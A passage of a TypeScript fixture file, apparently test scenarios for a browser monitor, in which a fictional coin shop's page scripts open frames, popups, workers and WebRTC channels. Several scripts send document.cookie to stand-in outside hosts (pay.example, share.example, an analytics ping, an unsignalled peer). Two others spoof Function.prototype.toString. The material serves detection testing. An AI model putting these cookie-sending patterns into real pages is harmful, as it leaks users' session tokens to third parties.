  const blank = document.createElement('iframe');
  document.body.append(blank);
  blank.contentDocument.body.style.background = 'url("https://media.partner.test/bg.png?v=3")';
  blank.contentDocument.body.textContent = '.';
  window.__widgetDrawn = true;
})();`,
  /**
   * The shop's receipt: its help page opened in a popup, sent to about:blank once loaded, and a receipt written
   * there whose script asks the shop for stock (a popup's next realm, handed over to its opener since stop 51's review).
   */
  'receipt-popup': `(() => {
  const w = window.open('/kz/pages/questions', 'receipt', 'popup');
  const written = () => {
    let ready = false;
    try { ready = w.location.href === 'about:blank' && w.document.readyState === 'complete'; } catch {}
    if (!ready) return void setTimeout(written, 20);
    w.document.write('<h1>Чек</h1><script>fetch("/api/stock/probe").finally(() => { opener.__receipt = true; setTimeout(close, 300); })<\\/script>');
    w.document.close();
  };
  const loaded = () => {
    let ready = false;
    try { ready = w.location.pathname === '/kz/pages/questions' && w.document.readyState === 'complete'; } catch {}
    if (!ready) return void setTimeout(loaded, 20);
    w.location.href = 'about:blank';
    written();
  };
  loaded();
})();`,
  /**
   * A widget the shop draws in a srcdoc frame whose own script shows a partner's pages in frames, by `src`,
   * `setAttribute` and markup: that code is named `about:srcdoc`, and the shop wrote it.
   */
  'srcdoc-widget': `(() => {
  const widget = document.createElement('iframe');
  widget.title = 'branches';
  widget.srcdoc = ${JSON.stringify(srcdocWidgetMarkup('__srcdocWidget'))};
  document.body.append(widget);
})();`,
  /** The shop counting clicks on its own links with pings to itself and to its analytics provider. */
  'link-pings': `(() => {
  const a = document.createElement('a');
  a.href = '/kz/pages/questions';
  a.ping = '/api/stats/link https://cdn.shopmetrics.test/collect?l=faq&sid=' + encodeURIComponent(document.cookie);
  const holder = document.createElement('div');
  holder.innerHTML = '<a href="/kz/cart" ping="/api/stats/link?l=cart">cart</a>';
  document.body.append(a, holder);
  window.__linksCounted = true;
})();`,
  /**
   * The shop's own support chat over WebRTC: a STUN server of its own, and a data channel that opens — to a
   * connection in the page standing in for the operator — and carries a message with the session cookie; and
   * a direct line to the operator whose address is never signalled (UNSIGNALLED_CHANNEL), carrying it too.
   */
  'peer-chat': `(async () => {
  const chat = new RTCPeerConnection({ iceServers: [{ urls: 'stun:stun.kazcoins.nationalbank.kz:3478' }] });
  const operator = new RTCPeerConnection();
  chat.onicecandidate = (e) => e.candidate && operator.addIceCandidate(e.candidate).catch(() => {});
  operator.onicecandidate = (e) => e.candidate && chat.addIceCandidate(e.candidate).catch(() => {});
  operator.ondatachannel = (e) => (e.channel.onmessage = () => e.channel.send('operator: hello'));
  const channel = chat.createDataChannel('support');
  let answered = false;
  let direct = false;
  const done = () => answered && direct && (window.__chatted = true);
  channel.onmessage = () => ((answered = true), done());
  // A second line to the operator with no server and no address signalled (its sends go to an unknown peer).
  ${UNSIGNALLED_CHANNEL}
  unsignalled('support-direct', (line) => {
    line.send('session ' + document.cookie + ': direct line');
    direct = true;
    done();
  });
  channel.onopen = () => channel.send('session ' + document.cookie + ': I cannot add a coin');
  await chat.setLocalDescription(await chat.createOffer());
  await operator.setRemoteDescription(chat.localDescription);
  await operator.setLocalDescription(await operator.createAnswer());
  await chat.setRemoteDescription(operator.localDescription);
})();`,
  /**
   * A first-party gallery that sets its own pictures every way the image-pixel hooks watch — srcset,
   * <picture> sources, setAttributeNS, Attr nodes, a srcset longer than Saq parses — some from an image
   * host outside the shop's profile (the shop shows its pictures from anywhere), after reading its cookie.
   */
  gallery: `(() => {
  const v = encodeURIComponent(document.cookie);
  const own = location.origin + '/static/coins/ilbis';
  const cover = new Image();
  cover.sizes = '50vw';
  cover.srcset = own + '-480.jpg 480w, ' + own + '-960.jpg 960w, https://img.example/ilbis-1920.jpg 1920w';
  const picture = document.createElement('picture');
  const source = document.createElement('source');
  source.srcset = '/static/coins/ilbis.webp?v=' + v + ' 1x, https://img.example/ilbis@2x.webp 2x';
  source.src = '/static/coins/ilbis.webp';
  const thumb = document.createElement('img');
  thumb.setAttributeNS(null, 'src', '/static/coins/ilbis-thumb.jpg?v=' + v);
  thumb.setAttributeNS(null, 'srcset', 'https://img.example/ilbis-thumb@2x.jpg 2x');
  thumb.setAttribute('srcset', '/static/coins/ilbis-thumb@2x.jpg 2x');
  picture.append(source, thumb);
  const zoom = document.createElement('img');
  const attr = document.createAttribute('src');
  attr.value = 'https://img.example/ilbis-zoom.jpg';
  zoom.setAttributeNode(attr);
  attr.value = own + '-zoom.jpg';
  let widths = '';
  for (let w = 100; w <= 2000; w += 100) widths += own + '-' + w + '.jpg ' + w + 'w, ';
  const wide = new Image();
  wide.sizes = '100vw';
  wide.srcset = widths + 'https://img.example/ilbis-4000.jpg 4000w';
  document.body.append(cover, picture, zoom, wide);
  // The same pictures as markup: the shop's own, and its image host's.
  const strip = document.createElement('div');
  strip.innerHTML = '<img src="' + own + '-strip.jpg?v=' + v + '"><picture><source srcset="https://img.example/ilbis-strip.webp 1x"><img src="/static/coins/ilbis-strip.jpg"></picture>';
  strip.insertAdjacentHTML('beforeend', '<img srcset="' + own + '-strip@2x.jpg 2x">');
  document.body.append(strip);
  // Backgrounds and an SVG picture no hook sees: the image host's (no secret in the URL) and the shop's own
  // (the cookie in the URL, to its own host).
  const banner = document.createElement('div');
  banner.style.backgroundImage = 'url(https://img.example/ilbis-banner.jpg?lang=kk&w=1920)';
  const badge = document.createElement('div');
  badge.style.backgroundImage = 'url(' + own + '-badge.png?v=' + v + ')';
  banner.textContent = badge.textContent = '.';
  const vector = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
  const seal = document.createElementNS('http://www.w3.org/2000/svg', 'image');
  seal.setAttribute('href', 'https://img.example/ilbis-seal.svg');
  vector.appendChild(seal);
  document.body.append(banner, badge, vector);
  window.__gallery = true;
})();`,
  /**
   * The shop's share buttons: a social network's share page (with the shop's own referral cookie in the URL)
   * in a new window by `window.open`, the same by `document.open(url, name, features)`, and its own help page.
   */
  'share-window': `(() => {
  const ref = encodeURIComponent(document.cookie);
  const here = encodeURIComponent(location.href);
  const shut = (w) => { if (w) setTimeout(() => w.close(), 50); };
  shut(window.open('https://share.example/intent?u=' + here + '&ref=' + ref, 'share', ''));
  shut(document.open('https://share.example/dialog?u=' + here, 'share-dialog', ''));
  shut(window.open('/kz/pages/questions', 'help'));
  window.__shared = true;
})();`,
  /**
   * The shop sending its own frames and itself to its payment provider, its cookie in the URL: a frame's
   * Location, a link it clicks into a frame, a click event it dispatches on another, and location.assign
   * (cancelled by the shop where the browser has the Navigation API, so the test keeps the page), a link a
   * `<base target>` sends into a frame; meta refreshes sending frames to the provider (one set up by
   * properties, one parsed by a DOMParser and moved in); and a link to a partner the person clicks.
   */
  'pay-navigations': `(() => {
  const ref = encodeURIComponent(document.cookie);
  ${SHOP_FRAME}
  Promise.all([frame('pay-a'), frame('pay-b'), frame('pay-c'), frame('pay-d'), frame('pay-e')]).then(([a, , c, d, e]) => {
    a.onload = c.onload = d.onload = e.onload = null;
    a.contentWindow.location.href = 'https://pay.example/checkout?ref=' + ref;
    const link = document.createElement('a');
    link.href = 'https://pay.example/3ds?ref=' + ref;
    link.target = 'pay-b';
    document.body.appendChild(link);
    link.click();
    const partner = document.createElement('a');
    partner.id = 'partner';
    partner.href = 'https://share.example/guide?ref=' + ref;
    partner.target = 'pay-b';
    partner.textContent = 'Нұсқаулық';
    document.body.appendChild(partner);
    // A click event it dispatches on a link into a frame, and a refresh that sends a frame to the provider's status page.
    const slip = document.createElement('a');
    slip.href = 'https://pay.example/slip?ref=' + ref;
    slip.target = 'pay-b';
    document.body.appendChild(slip);
    slip.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
    // Its link in a frame's own document, no target: that document goes to the provider.
    const wallet = e.contentDocument.createElement('a');
    wallet.href = 'https://pay.example/wallet?ref=' + ref;
    e.contentDocument.body.appendChild(wallet);
    wallet.click();
    const status = c.contentDocument.createElement('meta');
    status.httpEquiv = 'refresh';
    status.content = '0; url=https://pay.example/status?ref=' + ref;
    c.contentDocument.head.appendChild(status);
    // Its receipt link, sent into a frame by the document's <base target>; a refresh it parsed apart and moved in.
    const base = document.createElement('base');
    base.target = 'pay-b';
    document.head.prepend(base);
    const receipt = document.createElement('a');
    receipt.href = 'https://pay.example/receipt?ref=' + ref;
    document.body.appendChild(receipt);
    receipt.click();
    base.remove();
    const done = new DOMParser().parseFromString('<meta http-equiv="refresh" content="0; url=https://pay.example/done?ref=' + ref + '">', 'text/html');
    d.contentDocument.head.appendChild(done.querySelector('meta'));
    if (typeof navigation === 'object') {
      navigation.addEventListener('navigate', (e) => e.destination.url.includes('/pay-top') && e.preventDefault());
      location.assign('https://pay.example/pay-top?ref=' + ref);
    }
    window.__paid = true;
  });
})();`,
  /**
   * The shop's receipt shown in documents made from strings: a blob: frame (a generated page), a data:
   * frame, a blob: <object> and a data: <embed> from markup (a printable copy).
   */
  'receipt-frames': `(() => {
  const receipt = '<!doctype html><meta charset="utf-8"><h1>Чек</h1><p>Ілбіс, 1 дана</p>';
  const blobUrl = () => URL.createObjectURL(new Blob([receipt], { type: 'text/html' }));
  const blob = document.createElement('iframe');
  blob.src = blobUrl();
  const data = document.createElement('iframe');
  data.setAttribute('src', 'data:text/html;charset=utf-8,' + encodeURIComponent(receipt));
  const object = document.createElement('object');
  object.data = blobUrl();
  const copy = document.createElement('div');
  copy.innerHTML = '<embed type="text/html" src="data:text/html;charset=utf-8,' + encodeURIComponent(receipt) + '">';
  document.body.append(blob, data, object, copy);
  window.__receipts = true;
})();`,
  /** The shop's receipt in a blob: frame, its summary first and, a second later, its full page with a logo (slow to come). */
  'blob-receipt': `(() => {
  const page = (body) => URL.createObjectURL(new Blob(['<!doctype html><meta charset="utf-8">' + body], { type: 'text/html' }));
  const frame = document.createElement('iframe');
  const first = page('<h1>Чек</h1>');
  frame.src = first;
  frame.addEventListener('load', () => {
    if (window.__blobReceipt || frame.contentDocument.URL !== first) return;
    window.__blobReceipt = true;
    // The full page a second later (the payment confirmed).
    setTimeout(() => {
      frame.src = page('<h1>Чек</h1><p>Ілбіс, 1 дана</p><img alt="" src="/kz/product/snow-leopard-silver?parse-pause=2000">');
    }, 1000);
  });
  document.body.append(frame);
})();`,
  /** The captcha provider's proof of work, in a blob: worker (served from the provider's host). */
  'captcha-pow': `(() => {
  const code = "onmessage = (e) => { let n = 0; while (!String(Math.imul(e.data, ++n)).endsWith('00')); postMessage(n); };";
  const worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
  worker.onmessage = () => { window.__pow = true; };
  worker.postMessage(7919);
})();`,
  /** The shop's own worker, from its own file (price formatting off the main thread). */
  'shop-worker': `(() => {
  const worker = new Worker('/assets/format-worker.js');
  worker.onmessage = () => { window.__formatted = true; };
  worker.postMessage(38000);
})();`,
  'format-worker': `onmessage = (e) => postMessage(new Intl.NumberFormat('kk-KZ').format(e.data));`,
  /** A monitoring library (error/performance tracking) that wraps fetch and addEventListener, calling through. */
  monitoring: `(() => {
  const fetchBefore = window.fetch;
  window.fetch = function (...args) { return fetchBefore.apply(this, args); };
  const listenBefore = EventTarget.prototype.addEventListener;
  EventTarget.prototype.addEventListener = function (...args) { return listenBefore.apply(this, args); };
})();`,
  /**
   * The shop's own polyfills making their functions look native, as core-js's make-built-in does (loaded by most Babel
   * builds): a table of its functions' texts, and every other function's text from the toString it found.
   */
  'polyfill-tostring': `(function () { 'use strict';
  var source = new WeakMap();
  var inspectSource = Function.prototype.call.bind(Function.prototype.toString);
  function makeBuiltIn(value, name) { source.set(value, 'function ' + name + '() { [native code] }'); return value; }
  Function.prototype.toString = makeBuiltIn(function toString() {
    return typeof this == 'function' && source.get(this) || inspectSource(this);
  }, 'toString');
  window.structuredCloneLite = makeBuiltIn(function structuredCloneLite(v) { return JSON.parse(JSON.stringify(v)); }, 'structuredCloneLite');
  window.__polyfilled = Function.prototype.toString.call(window.structuredCloneLite);
})();`,
  /** The same as zone.js (every Angular app) does it: a patched function shows its original's text. */
  'zone-tostring': `(function () {
  var original = Function.prototype.toString;
  var DELEGATE = '__zone_symbol__OriginalDelegate';
  var patched = function toString() {
    if (typeof this === 'function' && this[DELEGATE]) return original.call(this[DELEGATE]);
    return original.call(this);
  };
  patched[DELEGATE] = original;
  Function.prototype.toString = patched;
  window.__polyfilled = String(Function.prototype.toString.call(setTimeout));
})();`,
} as const;
